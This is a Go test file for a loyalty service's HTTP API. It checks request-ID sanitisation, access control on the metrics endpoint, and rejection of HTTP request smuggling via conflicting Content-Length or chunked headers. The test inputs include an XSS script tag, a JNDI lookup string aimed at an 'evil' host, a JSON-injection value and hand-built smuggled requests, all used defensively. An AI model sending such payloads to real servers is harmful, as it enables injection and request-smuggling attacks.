package api

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/loyalty-engine/loyalty/loyalty"
	"github.com/loyalty-engine/loyalty/loyalty/loyaltytest"
)

// TestRequestIDSanitized: a client's X-Request-ID is echoed and logged only
// when it is 1 to 128 characters of a safe set; anything else (too long,
// spaces, quotes, markup, control or non-ASCII bytes) is replaced by a
// fresh id, which the answer and the log line both carry.
func TestRequestIDSanitized(t *testing.T) {
	var logs syncBuffer
	e := newEnvConfig(t, loyalty.SQLite, func(c *Config) {
		c.Logger = slog.New(slog.NewJSONHandler(&logs, nil))
	})
	fresh := regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$`)
	loggedIDs := func() []string {
		var ids []string
		for _, line := range strings.Split(strings.TrimSpace(logs.String()), "\n") {
			var l struct {
				Msg       string `json:"msg"`
				RequestID string `json:"request_id"`
			}
			if json.Unmarshal([]byte(line), &l) == nil && l.Msg == "request" {
				ids = append(ids, l.RequestID)
			}
		}
		return ids
	}
	t.Run("KeptWhenSafe", func(t *testing.T) {
		for _, id := range []string{"abc-123", "0f8fad5b-d9cb-469f-a165-70867728950e", "trace:span.1_2", strings.Repeat("x", 128)} {
			r := e.do("GET", "/healthz", "", nil, "X-Request-ID", id).must(t, 200)
			if got := r.Header.Get("X-Request-ID"); got != id {
				t.Errorf("X-Request-ID %q echoed as %q", id, got)
			}
			if ids := loggedIDs(); ids[len(ids)-1] != id {
				t.Errorf("X-Request-ID %q logged as %q", id, ids[len(ids)-1])
			}
		}
	})
	t.Run("ReplacedWhenNot", func(t *testing.T) {
		for _, id := range []string{strings.Repeat("x", 129), "id with spaces", `"quoted"`, "<script>alert(1)</script>",
			"${jndi:ldap://evil/x}", "é-accent", "a\x7fb", "line\tfeed", "admin\",\"role\":\"admin"} {
			r := e.do("GET", "/healthz", "", nil, "X-Request-ID", id).must(t, 200)
			got := r.Header.Get("X-Request-ID")
			if !fresh.MatchString(got) {
				t.Errorf("X-Request-ID %q answered with %q, want a fresh id", id, got)
			}
			ids := loggedIDs()
			if ids[len(ids)-1] != got {
				t.Errorf("the log line carries %q, the answer %q", ids[len(ids)-1], got)
			}
			if strings.Contains(logs.String(), id) {
				t.Errorf("the log holds X-Request-ID %q", id)
			}
		}
	})
	t.Run("ControlBytesOverTheWire", func(t *testing.T) {
		addr := listen(t, e)
		for _, id := range []string{"a\x01b", "a\x1b[31mred"} {
			r, err := rawExchange(t, addr, "GET /healthz HTTP/1.1\r\nHost: loyalty.test\r\nX-Request-ID: "+id+"\r\nConnection: close\r\n\r\n")
			if err != nil {
				t.Fatal(err)
			}
			if got := r.Header.Get("X-Request-ID"); r.Status == 200 && !fresh.MatchString(got) {
				t.Errorf("X-Request-ID %q answered with %q", id, got)
			}
			if strings.Contains(logs.String(), id) {
				t.Errorf("the log holds X-Request-ID %q", id)
			}
		}
	})
	t.Run("GeneratedWhenAbsent", func(t *testing.T) {
		if got := e.do("GET", "/healthz", "", nil).must(t, 200).Header.Get("X-Request-ID"); !fresh.MatchString(got) {
			t.Errorf("no X-Request-ID: answered with %q", got)
		}
	})
}

// metricsGet reads /metrics of app with the Authorization header auth
// (none when empty).
func metricsGet(t *testing.T, e *env, auth string) resp {
	t.Helper()
	if auth == "" {
		return e.do("GET", "/metrics", "", nil)
	}
	return e.do("GET", "/metrics", "", nil, "Authorization", auth)
}

// TestMetricsProtected: /metrics tells request volumes by route, purchase
// and point counters and process details, so it is not open to anyone. By
// default it takes an admin token; with Config.MetricsToken, that bearer
// token (compared in constant time) or an admin token; with MetricsOff it
// is not on the API's address at all, and MetricsApp serves it on another,
// open there unless it has a token.
func TestMetricsProtected(t *testing.T) {
	const token = "metrics-scrape-token-0123456789abcdef"
	t.Run("Default", func(t *testing.T) {
		e := newEnv(t, loyalty.SQLite)
		assertUnauthorized(t, metricsGet(t, e, ""))
		assertUnauthorized(t, metricsGet(t, e, "Bearer "+token))
		assertUnauthorized(t, metricsGet(t, e, "Basic YWRtaW46YWRtaW4="))
		for _, tok := range []string{e.pos(), e.marketer(), e.token(loyalty.RoleMember, "m-1")} {
			assertProblem(t, metricsGet(t, e, "Bearer "+tok), http.StatusForbidden, "")
		}
		r := metricsGet(t, e, "Bearer "+e.admin()).must(t, 200)
		if !strings.Contains(string(r.Body), "loyalty_purchases_total") {
			t.Errorf("metrics: %.500s", r.Body)
		}
	})
	t.Run("Token", func(t *testing.T) {
		e := newEnvConfig(t, loyalty.SQLite, func(c *Config) { c.MetricsToken = token })
		metricsGet(t, e, "Bearer "+token).must(t, 200)
		metricsGet(t, e, "Bearer "+e.admin()).must(t, 200)
		for _, h := range []string{"", "Bearer ", "Bearer " + token + "x", "Bearer " + token[:len(token)-1], "bearer" + token, token} {
			assertUnauthorized(t, metricsGet(t, e, h))
		}
	})
	t.Run("Off", func(t *testing.T) {
		e := newEnvConfig(t, loyalty.SQLite, func(c *Config) { c.MetricsOff = true })
		metricsGet(t, e, "Bearer "+e.admin()).must(t, 404)
	})
	t.Run("SeparateApp", func(t *testing.T) {
		m := NewMetrics()
		get := func(app interface {
			Test(*http.Request, ...int) (*http.Response, error)
		}, path, auth string) int {
			req := httptest.NewRequest("GET", path, nil)
			if auth != "" {
				req.Header.Set("Authorization", auth)
			}
			res, err := app.Test(req, -1)
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			return res.StatusCode
		}
		open := MetricsApp(m, "")
		if st := get(open, "/metrics", ""); st != 200 {
			t.Errorf("open metrics app: %d", st)
		}
		if st := get(open, "/v1/tiers", ""); st != 404 {
			t.Errorf("the metrics app answers /v1/tiers: %d", st)
		}
		closed := MetricsApp(m, token)
		if st := get(closed, "/metrics", ""); st != 401 {
			t.Errorf("metrics app with a token, no Authorization: %d", st)
		}
		if st := get(closed, "/metrics", "Bearer nope"); st != 401 {
			t.Errorf("metrics app with a token, a wrong one: %d", st)
		}
		if st := get(closed, "/metrics", "Bearer "+token); st != 200 {
			t.Errorf("metrics app with its token: %d", st)
		}
	})
}

// exchangeTwo writes raw to a new connection and reads up to two answers:
// the second is nil when the server closed the connection after the first.
func exchangeTwo(t *testing.T, addr, raw string) (*http.Response, *http.Response) {
	t.Helper()
	conn, err := net.DialTimeout("tcp", addr, generous)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(generous))
	if _, err := io.WriteString(conn, raw); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(conn)
	first, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("no answer: %v", err)
	}
	_, _ = io.ReadAll(first.Body)
	first.Body.Close()
	second, err := http.ReadResponse(br, nil)
	if err != nil {
		if !closedByServer(err) {
			t.Fatalf("waiting for a second answer: %v", err)
		}
		return first, nil
	}
	_, _ = io.ReadAll(second.Body)
	second.Body.Close()
	return first, second
}

// TestConflictingContentLength: a request whose body length is ambiguous
// (Content-Length given twice, or with Transfer-Encoding) is how one
// request is smuggled inside another between a proxy and the engine. It is
// 400 and the connection closes, so the bytes after the body the engine
// read are never taken for a request of their own.
func TestConflictingContentLength(t *testing.T) {
	loyaltytest.Each(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		addr := listen(t, e)
		pos := e.pos()
		inner := `{"email":"smuggled@example.com"}`
		smuggled := fmt.Sprintf("POST /v1/members HTTP/1.1\r\nHost: loyalty.test\r\nAuthorization: Bearer %s\r\n"+
			"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", pos, len(inner), inner)
		// A last request that closes the connection: a server that kept
		// it open answers it, so no read waits on a timeout.
		const last = "GET /healthz HTTP/1.1\r\nHost: loyalty.test\r\nConnection: close\r\n\r\n"
		outer := `{"email":"outer@example.com"}`
		head := "POST /v1/members HTTP/1.1\r\nHost: loyalty.test\r\nAuthorization: Bearer " + pos + "\r\nContent-Type: application/json\r\n"
		for _, c := range []struct{ name, headers, body string }{
			{"LongerFirst", fmt.Sprintf("Content-Length: %d\r\nContent-Length: %d\r\n", len(outer)+len(smuggled), len(outer)), outer + smuggled},
			{"ShorterFirst", fmt.Sprintf("Content-Length: %d\r\nContent-Length: %d\r\n", len(outer), len(outer)+len(smuggled)), outer + smuggled},
			{"SameTwice", fmt.Sprintf("Content-Length: %d\r\ncontent-length: %d\r\n", len(outer), len(outer)), outer + smuggled},
			{"WithChunked", fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n", len(outer)),
				fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(outer), outer) + smuggled},
		} {
			t.Run(c.name, func(t *testing.T) {
				first, second := exchangeTwo(t, addr, head+c.headers+"\r\n"+c.body+last)
				if first.StatusCode != http.StatusBadRequest {
					t.Errorf("status %d, want 400", first.StatusCode)
				}
				if second != nil {
					t.Errorf("the connection stayed open and answered a second request: %d", second.StatusCode)
				}
			})
		}
		t.Run("NothingWritten", func(t *testing.T) {
			if n := e.dbInt(`SELECT COUNT(*) FROM members`); n != 0 {
				t.Errorf("%d members enrolled by ambiguous requests", n)
			}
		})
		t.Run("OneContentLengthStillWorks", func(t *testing.T) {
			first, _ := exchangeTwo(t, addr, head+fmt.Sprintf("Content-Length: %d\r\nConnection: close\r\n\r\n%s", len(outer), outer))
			if first.StatusCode != http.StatusCreated {
				t.Errorf("status %d, want 201", first.StatusCode)
			}
		})
	})
}
